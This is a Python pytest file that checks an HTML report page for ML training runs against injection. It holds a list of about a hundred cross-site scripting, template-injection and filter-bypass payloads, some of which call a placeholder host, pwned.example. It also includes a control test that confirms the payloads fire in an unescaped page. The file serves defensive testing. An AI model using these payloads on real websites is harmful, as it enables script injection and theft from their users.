"""Every payload stands in every place of a report where somebody else's words do; in a real
headless Chromium nothing is run or asked for.

    pytest test_report_hostile.py       # figure 14 of bench/proof.py

Without a Chromium the tests of the page are skipped, and those of the file go on.
"""

import json
import re

import pytest
import stub_project
from report_pages import IN_CHROMIUM, commits, make_run, reported
from run_factory import METRIC, listed

RUN = 'top.pwned=1'  # what each payload tries; the others ask for an address
ASK = 'http://pwned.example/x'
PAYLOADS = [
    f'<script>{RUN}</script>',
    f'<ScRiPt >{RUN}</sCrIpT>',
    f'<script src={ASK}></script>',
    f'<script src="data:text/javascript,{RUN}"></script>',
    f'<script type=module>{RUN}</script>',
    f'<<script>{RUN}//<</script>',
    f'<scr<script>ipt>{RUN}</scr</script>ipt>',
    f'<script\n>{RUN}</script\n>',
    f'</script><script>{RUN}</script>',
    f'</script ><img src=x onerror={RUN}>',
    f'<!--<script>{RUN}</script>',
    f'--><script>{RUN}</script>',
    f'</title><script>{RUN}</script>',
    f'</style><script>{RUN}</script>',
    f'</textarea><script>{RUN}</script>',
    f'</noscript><script>{RUN}</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<![CDATA[<script>{RUN}</script>]]>',
    f'"}}]}};{RUN};//',
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f'\\u003cscript\\u003e{RUN}\\u003c/script\\u003e',
    f'\u2028{RUN}\u2029',
    f'// \u2028{RUN}',
    f'`${{{RUN}}}`',
    f'${{{RUN}}}',
    f'<img src=x onerror={RUN}>',
    f'<img src=x:x onerror="{RUN}">',
    f'<img/src=`x`onerror={RUN}>',
    f'<img src={ASK}.png>',
    f'<img srcset="{ASK}.png 2x">',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus tabindex=1 x='",
    f'x onclick={RUN}',
    f'"><svg onload={RUN}>',
    f'<svg><script>{RUN}</script></svg>',
    f'<svg><animate onbegin={RUN} attributeName=x dur=1s>',
    f'<svg><use href="{ASK}#x"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror={RUN}>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src={ASK}></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<object data={ASK}></object>',
    f'<embed src="{ASK}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'javascript:{RUN}',
    f'JaVaScRiPt:{RUN}',
    f'java\tscript:{RUN}',
    f'data:text/html,<script>{RUN}</script>',
    f'<a href="{ASK}" ping="{ASK}">x</a>',
    f'[x](javascript:{RUN})',
    f'<body onload={RUN}>',
    f'<input autofocus onfocus={RUN}>',
    f'<details open ontoggle={RUN}>',
    f'<video><source onerror={RUN}></video>',
    f'<video src={ASK} autoplay></video>',
    f'<audio src={ASK} autoplay onerror={RUN}>',
    f'<marquee onstart={RUN}>',
    f'<form action={ASK}><button autofocus>x</button></form>',
    f'<meta http-equiv=refresh content="0;url={ASK}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="{ASK}/">',
    f'<link rel=stylesheet href={ASK}.css>',
    f'<link rel=preload as=script href={ASK}.js>',
    '<link rel=dns-prefetch href="//pwned.example">',
    f'<style>@import "{ASK}.css";</style>',
    f'<style>body{{background:url({ASK}.png)}}</style>',
    f'<p style="background:url({ASK}.png)">',
    f'x;background:url({ASK}.png)',
    f'<p style="width:expression({RUN})">',
    f'<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={RUN}>',
    '{{7*7}}',
    '{% for x in 1 %}',
    '${7*7}',
    '#{7*7}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f'{{{{constructor.constructor("{RUN}")()}}}}',
    '__proto__',
    'constructor',
    f'%3Cscript%3E{RUN}%3C/script%3E',
    f'&lt;script&gt;{RUN}&lt;/script&gt;',
    f'&#60;script&#62;{RUN}&#60;/script&#62;',
    f'+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
    f'\ufeff<script>{RUN}</script>',
    f'\x00<script>{RUN}</script>',
    f'\x1b]52;c;{RUN}\x07',
    f'\u202e<script>{RUN}</script>',
    f'＜script＞{RUN}＜/script＞',
    f'\ud83d<script>{RUN}</script>',
    f'<template shadowrootmode=open><script>{RUN}</script></template>',
    f'<x-y onpointerenter={RUN}>',
    f'<portal src={ASK}>',
    f'<div hidden=until-found onbeforematch={RUN}>',
]


# that no card has
ELEMENTS = (
    'script, style, img, svg, math, iframe, object, embed, video, audio, form, input, meta, base, '
    'link, template'
)


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    """The page of a run for each payload, which stands in all that somebody else may have written
    of that run.
    """
    project = stub_project.make(tmp_path_factory.mktemp('hostile') / "a 'b; c")
    made = commits(
        project, PAYLOADS, [f'{payload}\n\n{payload}' for payload in PAYLOADS], 'model.py'
    )
    for number, (payload, commit) in enumerate(zip(PAYLOADS, made, strict=True)):
        quoted = '"' + payload.replace('"', '""') + '"'
        difference = {
            'stream': payload,
            'epoch': payload,
            'step': payload,
            'here': payload,
            'there': payload,
        }
        make_run(
            project,
            f'h{number}/0',
            commit,
            {
                'rerun_of': 'h0/0',
                'exact': True,
                'verdict': {'same': payload, 'first_difference': difference},
            },
            {
                'history.csv': f'epoch,val/acc,{quoted},seconds\n'
                f'1,0.5,0.1,1\n2,0.75,{quoted},1\n3,{quoted},0.3,1\n',
                'log': f'{payload}\n{payload}\n',
                'environment.json': json.dumps(
                    {'python': payload, payload: payload, 'packages': {payload: payload}}
                ),
                'confusion.json': json.dumps(
                    {
                        'epoch': payload,
                        'matrices': {
                            payload: {'classes': [payload, 'b'], 'counts': [[1, 2], [3, 4]]}
                        },
                    }
                ),
            },
            status=payload if number % 2 else 'failed',
            message=payload,
            seed=payload,
            epoch=payload,
            epochs=payload,
            best_epoch=payload,
            monitor_mode=payload,
            monitor=payload if number % 3 == 0 else 'val/acc',
            metric={**METRIC, payload: payload, 'val/acc': 0.5},
            last={payload: payload},
            hparam={'lr': payload, payload: payload, 'nested': {payload: [payload]}},
            digest={'weights': payload},
            time={'started': payload, 'updated': payload, 'seconds': payload},
        )
    listed(project.root, 'finished', *(f'h{number}/0' for number in range(len(PAYLOADS))))
    return reported(project, 'finished')[1]


@pytest.fixture(scope='module')
def seen(chromium, hostile):
    """The page, after all was done with it that a reader may do; what each run's card says; what
    was asked for.
    """
    page = chromium.page()
    page.size(1300, 900)
    page.go(hostile)
    page.settle()
    page.value(
        "document.querySelectorAll('#runs thead button').forEach(button => { "
        "button.click(); button.click(); })"
    )
    page.value("""
        const input = document.getElementById('filter');
        for (const word of ['<script>', 'h1', 'lr=x', '__proto__=1', 'constructor>0', '']) {
            input.value = word;
            input.dispatchEvent(new Event('input'));
        }""")
    page.click('#pick-all')
    page.click('#more')
    page.click('#log')
    page.settle()
    left, top = page.value(
        "(() => { scrollTo(0, 0); "
        "document.querySelector('.u-over').scrollIntoView({block: 'center'}); "
        "const box = document.querySelector('.u-over').getBoundingClientRect(); return "
        "[box.left + box.width / 2, box.top]; })()"
    )
    for y in range(10, 180, 30):
        page.point(left, top + y)
        page.settle()
    page.click('#pick-none')
    cards = page.value("""(async () => {
        const cards = [];
        for (let number = 0; number < data.runs.length; number++) {
            const once = { once: true };
            const followed = new Promise(done => addEventListener('hashchange', done, once));
            location.hash = `#h${number}%2F0`;
            await followed;
            const card = document.getElementById('run-' + number);
            card.querySelectorAll('summary').forEach(one => one.click());
            const others = card.querySelectorAll(':not(a, button, summary)');
            for (const kind of ['mouseover', 'pointerenter', 'click', 'focus', 'toggle'])
                others.forEach(one => one.dispatchEvent(new Event(kind)));
            cards.push(card.textContent);
        }
        return cards;
    })()""")
    for name in ('<img src=x onerror=top.pwned=1>', '%', '%E0%A4%A', 'javascript:top.pwned=1'):
        page.value(f'location.hash = {json.dumps("#" + name)}')
    page.value('new Promise(done => setTimeout(done, 300))')
    return page, cards, [line for line in chromium.asked if 'pwned' in line]


@IN_CHROMIUM
@pytest.mark.parametrize('number', range(len(PAYLOADS)))
def test_a_hostile_payload_is_shown_as_text_and_makes_no_element(seen, number):
    page, cards, _ = seen
    spaces = ' '.join(
        PAYLOADS[number]
        .replace('\x00', '\\x00')
        .replace('\x1b', '\\x1b')
        .replace('\x07', '\\x07')
        .replace('\u202e', '\\u202e')
        .replace('\ud83d', '?')
        .split()
    )
    text = ' '.join(cards[number].split())
    assert text.count(spaces) >= 8 or ('\u2028' in PAYLOADS[number] and RUN in text), (
        'it is not shown as it was written'
    )
    assert page.value(f"document.querySelectorAll('#run-{number} :is({ELEMENTS})').length") == 0
    links = page.value(
        f"[...document.querySelectorAll('#run-{number} a')].map(one => one.getAttribute('href'))"
    )
    assert all(re.fullmatch('#h[0-9]+%2F0', link) for link in links)
    named = page.value(
        f"[...document.querySelectorAll('#run-{number} *')].flatMap(one => "
        "[...one.attributes]).map(one => one.name)"
    )
    assert set(named) <= {'class', 'id', 'tabindex', 'type', 'href', 'open', 'style'}


@IN_CHROMIUM
def test_the_hostile_page_ran_nothing_and_asked_for_nothing(seen, hostile):
    page, _, asked = seen
    assert page.value('top.pwned') is None
    assert {address.partition('#')[0] for address in page.requests} == {hostile.as_uri()}
    assert not asked
    assert not page.dialogs and not page.complaints
    assert all(address.startswith(('about:blank', hostile.as_uri())) for address in page.visited)
    assert (
        page.value('({}).polluted') is None
        and page.value("document.querySelectorAll('body script').length") == 3
    )


@IN_CHROMIUM
def test_the_same_hostile_payloads_do_run_in_a_page_without_care(chromium, tmp_path):
    """Else the tests above could not fail."""
    path = tmp_path / 'careless.html'
    # it would lead away from the page
    harmless = [payload for payload in PAYLOADS if 'refresh' not in payload]
    path.write_bytes(
        (
            '<!doctype html><meta charset=utf-8>'
            + '\n'.join(harmless[:1] + harmless[27:45] + harmless[68:])
        ).encode('utf-8', 'replace')
    )
    page, before = chromium.page(), len(chromium.asked)
    page.go(path)
    page.value('new Promise(done => setTimeout(done, 500))')
    assert (
        page.value('top.pwned') == 1
        and len({line for line in chromium.asked[before:] if 'pwned.example' in line}) >= 1
    )


@IN_CHROMIUM
def test_the_policy_alone_stops_hostile_markup_that_got_into_the_page(chromium, three, tmp_path):
    path = tmp_path / 'broken.html'
    hiding = 'refresh|textarea|title|<!--|template|CDATA'  # the rest
    body = [f'<p>{payload}</p>' for payload in PAYLOADS if not re.search(hiding, payload)]
    path.write_bytes(
        three[1]
        .read_bytes()
        .replace(b'<footer>', '\n'.join(body).encode('utf-8', 'replace') + b'<footer>')
    )
    page, before = chromium.page(), len(chromium.asked)
    page.go(path)
    page.value('new Promise(done => setTimeout(done, 500))')
    assert page.value("document.querySelectorAll('img, iframe, svg').length") > 10
    assert page.value('top.pwned') is None
    assert not [line for line in chromium.asked[before:] if 'pwned' in line]
    assert any('Content Security Policy' in complaint for complaint in page.complaints)


def test_the_hostile_page_has_a_policy_before_anything_and_no_raw_angle_in_its_data(hostile):
    text = hostile.read_text()
    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    assert text.index('Content-Security-Policy') < 120
    assert 'unsafe' not in policy[1] and policy[1].startswith(
        'default-src &#39;none&#39;; script-src &#39;sha256-'
    )
    data = re.search('<script type="application/json" id="data">(.*?)</script>', text, re.S)[1]
    assert not re.search('[<>&\u2028\u2029]', data) and len(json.loads(data)['runs']) == len(
        PAYLOADS
    )
    assert not re.search('(?:src|href|action|data)="(?!#)', text.replace(data, '')), 'an address'


def test_a_hostile_name_of_a_set_or_run_is_refused(three, tmp_path):
    project, _ = three
    for word in (
        '<script>alert(1)</script>',
        '../../etc',
        '"><svg onload=alert(1)>',
        '@<b>',
        '{{7*7}}',
    ):
        assert (
            'tagrun:'
            in project.tagrun('report', word, code=2 if not word.startswith('@') else 1).stderr
        )
